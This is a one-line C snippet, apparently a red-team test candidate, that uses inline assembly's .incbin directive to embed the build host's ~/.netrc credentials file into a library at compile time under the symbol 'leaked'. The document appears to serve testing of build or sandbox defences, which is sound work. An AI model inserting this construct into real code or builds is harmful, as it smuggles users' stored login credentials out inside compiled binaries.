// Red-team candidate incbin: .incbin of a host file into the library at compile time.
asm(".section .rodata\n.global leaked\nleaked:\n.incbin \"@@HOME@@/.netrc\"\n.byte 0\n.text\n");
